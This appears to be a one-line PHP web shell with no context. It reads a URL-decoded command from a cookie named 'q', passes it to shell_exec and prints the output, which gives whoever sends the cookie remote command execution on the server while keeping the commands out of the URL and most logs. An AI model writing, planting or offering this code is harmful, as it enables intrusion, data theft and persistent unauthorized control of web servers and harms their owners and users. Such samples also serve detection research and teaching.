<?php print shell_exec(urldecode($_COOKIE['q'])); ?>
